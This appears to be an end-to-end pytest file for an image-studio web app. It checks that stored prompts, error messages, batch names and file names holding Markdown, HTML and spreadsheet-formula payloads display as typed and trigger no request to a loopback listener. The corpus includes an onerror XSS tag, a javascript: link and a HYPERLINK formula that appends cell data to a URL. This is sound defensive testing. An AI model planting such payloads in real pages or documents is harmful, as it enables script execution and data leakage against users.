"""Issue 18 in a real browser: Markdown in people's text makes no request and is shown as typed.

A plain HTTP listener on a loopback port stands for the attacker's server. The hostile corpus, pointing at it, goes
into the store as prompts, API failure messages, batch names and messages, library names and tags; into a file's
name; into a crafted PNG's text chunks read by Restore. Every page is opened (Generate single and batch with the
library and references, History with each detail and Compare, Showcase, Edit, Admin's refusal in demo mode):
the listener must get no request, no link/image/formula/heading/colour/icon may come of the corpus, the text must be
visible as typed, and a 10,000-character word must not widen the page.
"""

from __future__ import annotations

import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from kie.models import GenerateRequest, Task
from kie.pngmeta import tag_png
from kie.store import TaskStore
from tests.e2e.harness import App, open_app, settle
from tests.fixtures import pictures

pytestmark = pytest.mark.e2e

LONG_WORD = "W" * 10_000
UPLOADER = "[data-testid=stFileUploaderDropzoneInput]"
JOINER = "\u2060"  # the invisible word joiner components.text puts after ':' of "http:" and ":name"


class Listener:
    """A loopback HTTP server that only counts what reaches it."""

    def __init__(self) -> None:
        hits: list[str] = []

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802 (http.server's name)
                hits.append(self.path)
                self.send_response(204)
                self.end_headers()

            do_POST = do_HEAD = do_GET  # noqa: N815

            def log_message(self, *args) -> None:
                pass

        self.hits = hits
        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.base = f"http://127.0.0.1:{self.server.server_address[1]}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


def corpus(base: str) -> list[str]:
    return [
        f"x ![t]({base}/p.png)",
        f"<img src={base}/x.png onerror=alert(1)>",
        f'=HYPERLINK("{base}/?"&A1,"details")',
        r"$\frac{a}{b}$ and $$x^2$$",
        ":red[x] :material/home: :smile: :streamlit:",
        "[a](javascript:alert(1))",
        f"[b]({base}/link) <{base}/auto> {base}/bare",
        "# heading",
        LONG_WORD,
    ]


@pytest.fixture
def listener():
    found = Listener()
    yield found
    found.close()


@pytest.fixture
def hostile_app(tmp_path, logs, listener):
    """The app in demo mode over a store holding the corpus everywhere people's text goes."""
    texts = corpus(listener.base)
    store = TaskStore(tmp_path / "data", "demo")
    now = time.time() - 600
    for n, text in enumerate(texts):
        done = Task(task_id=f"task_hostile_{n}", kind="text", request=GenerateRequest(prompt=text), state="success",
                    created_at=now + n, result_urls=[f"https://e.com/{n}.png"])
        done.images = [store.save_image(done.task_id, 0, pictures.png((64, 64), (n * 20, 40, 90)))]
        store.add(done)
        store.set_favourite(done.task_id, True)
        store.set_showcase(done.task_id, True)
        store.add(Task(task_id=f"task_failed_{n}", kind="text", request=GenerateRequest(prompt=f"failed {n}"),
                       state="failed", created_at=now + 20 + n, error_code=None if n % 2 else 400,
                       error_message=text))
        batch_id = f"batch-hostile-{n}"
        store.add_batch(batch_id, text, [GenerateRequest(prompt="a fox").to_dict()], now + 40 + n)
        store.set_batch_state(batch_id, "paused", text)
        store.save_prompt(f"prompt-{n}", text[:80], text[:200], GenerateRequest(prompt=text).to_dict(), now + n)
    for n, text in enumerate(texts[:3]):
        source = store.save_input(pictures.png((96, 64), (0, 90, 200)))
        edit = Task(task_id=f"task_edit_{n}", kind="edit", request=GenerateRequest(prompt=text), state="success",
                    created_at=now + 60 + n, inputs={"source": source}, result_urls=["https://e.com/e.png"])
        edit.images = [store.save_image(edit.task_id, 0, pictures.png((96, 64), (200, 90, 0)))]
        store.add(edit)
    app = App(tmp_path / "data", logs / "app.log")
    app.texts = texts
    yield app
    app.stop()


def visible_text(page) -> str:
    return page.locator("[data-testid=stMain]").inner_text().replace(JOINER, "")


def check_page(page, listener: Listener, expect: list[str], where: str) -> None:
    """Nothing of the corpus became markup, each text in `expect` shows as typed, the page keeps its width."""
    settle(page)
    # An image the page made asks for its file as soon as it is drawn; a request that comes later still counts
    # (the listener keeps every hit: the test's last line checks there were none at all).
    page.wait_for_timeout(150)
    port = listener.base.rsplit(":", 1)[1]
    made = page.evaluate(
        """(port) => ({
            images: [...document.querySelectorAll('img, source, video, audio, iframe')]
                .map(e => e.src || e.srcset || '').filter(s => s.includes(':' + port)),
            links: [...document.querySelectorAll('a')].map(a => a.getAttribute('href') || '')
                .filter(h => h.includes(':' + port) || h.startsWith('javascript')),
            formulas: document.querySelectorAll('.katex, math').length,
            headings: [...document.querySelectorAll('h1, h2, h3, h4, h5, h6')]
                .map(h => h.innerText).filter(t => /^\\s*heading\\s*$/.test(t)),
            // :red[x] would colour the x alone (Compare's own highlight is a background, over whole words)
            colours: [...document.querySelectorAll('.stMarkdownColoredText')]
                .map(e => e.innerText).filter(t => t.trim() === 'x'),
            icons: [...document.querySelectorAll('[data-testid=stMain] [role=img]')]
                .map(e => e.getAttribute('aria-label')).filter(l => (l || '').startsWith('home')),
            wide: document.documentElement.scrollWidth > window.innerWidth + 1,
        })""", port)
    assert made == {"images": [], "links": [], "formulas": 0, "headings": [], "colours": [], "icons": [],
                    "wide": False}, where
    body = visible_text(page)
    missing = [text[:60] for text in expect if text[:60] not in body]
    assert not missing, f"{where}: not shown as typed: {missing}"
    assert listener.hits == [], f"{where}: the page made requests to the listener: {listener.hits}"


def open_popover(page, label: str) -> None:
    page.get_by_role("button", name=label).first.click()
    settle(page)


def test_hostile_text_makes_no_request_and_shows_as_typed(hostile_app, page, listener, tmp_path):
    texts = hostile_app.texts
    short = [t for t in texts if t != LONG_WORD]
    url = hostile_app.url

    # Generate: the recent task cards (edits and failures in the API's words), then the library.
    open_app(page, url)
    page.get_by_text("Recent tasks").wait_for()
    check_page(page, listener, short[:3], "Generate")
    open_popover(page, "Library")
    popover = page.locator("[data-testid=stPopoverBody]").inner_text().replace(JOINER, "")
    assert all(text[:40] in popover for text in short), popover[:500]
    page.keyboard.press("Escape")

    # A crafted PNG's text chunks, read back by Restore (a toast) and by the reference picker (an info box).
    crafted = Task(task_id=texts[0], kind="text", request=GenerateRequest(prompt=" ".join(short[:3])),
                   state="success")
    png = tmp_path / "crafted.png"
    png.write_bytes(tag_png(pictures.png((64, 64), (1, 2, 3)), crafted, 0))
    page.get_by_text("Restore settings from an image").click()
    page.locator(UPLOADER).first.set_input_files(str(png))
    page.get_by_text("Settings restored from").wait_for()
    toast = page.locator("[data-testid=stToast]").inner_text().replace(JOINER, "")
    assert texts[0][:40] in toast
    check_page(page, listener, [], "Generate after Restore")
    page.get_by_text("Reference pictures (0 of 5)").click()
    page.get_by_role("tab", name="Upload").last.click()
    page.locator(UPLOADER).last.set_input_files(str(png))
    page.get_by_text("This picture was made by the studio").wait_for()
    check_page(page, listener, [short[0][:40]], "Generate with a restorable reference")

    # A file whose name is Markdown, refused by the picker (the name is in the message).
    named = tmp_path / ":red[x] $y$ ![t](x) # h <b>.png"
    named.write_bytes(b"not a picture")
    page.locator(UPLOADER).last.set_input_files(str(named))
    page.get_by_text("is not a picture").wait_for()
    check_page(page, listener, [named.name], "Generate with a refused file")

    # Batch mode: names, pause messages, an open batch.
    page.get_by_role("radio", name="Batch").click()
    settle(page)
    page.get_by_text("Batches").wait_for()
    check_page(page, listener, short, "Generate batches")
    page.get_by_role("button", name="Open").first.click()
    check_page(page, listener, [], "Generate with a batch open")

    # History: the gallery, every task in detail, Compare.
    open_app(page, url + "/history")
    check_page(page, listener, [t[:60] for t in short], "History")
    for n in range(len(texts)):
        for task_id in (f"task_hostile_{n}", f"task_failed_{n}"):
            open_app(page, f"{url}/history?task={task_id}")
            page.get_by_text("Technical details").first.wait_for()
            check_page(page, listener, [texts[n]], f"History detail {task_id}")
    ids = [f"task_hostile_{n}" for n in range(len(texts))]
    for start in range(0, len(ids), 4):
        open_app(page, f"{url}/history?compare={','.join(ids[start:start + 4])}")
        check_page(page, listener, [], f"Compare {start}")

    # Showcase: every slide, the first by its address, the others by the arrow key (a rerun, not a page load).
    open_app(page, f"{url}/showcase?slide=1")
    for number in range(1, len(texts) + 1):
        if number > 1:
            page.locator("body").press("ArrowRight")
        page.locator(".st-key-showcase-stage").get_by_text(f"Slide {number} of {len(texts)}").wait_for()
        check_page(page, listener, [], f"Showcase slide {number}")

    # Edit: the recent edits, and a picture whose file name is Markdown as the source.
    open_app(page, url + "/edit")
    check_page(page, listener, short[:3], "Edit")
    source = tmp_path / "[a](javascript:alert(1)) $x$ :red[y] :smile: #.png"
    source.write_bytes(pictures.png((120, 80), (10, 120, 200)))
    page.locator(UPLOADER).first.set_input_files(str(source))
    page.get_by_text("Picture: [a](javascript").wait_for()  # up to the first ':' (a joiner follows it)
    check_page(page, listener, [source.name], "Edit with a hostile file name")

    # Admin in demo mode answers with its refusal; nothing of the corpus there, and still no request.
    open_app(page, url + "/admin")
    check_page(page, listener, [], "Admin")
    assert listener.hits == []


def test_the_listener_does_count(listener, page):
    """The check above can fail: an image that really points at the listener is counted."""
    page.set_content(f'<img src="{listener.base}/seen.png">')
    page.wait_for_timeout(500)
    assert listener.hits == ["/seen.png"]
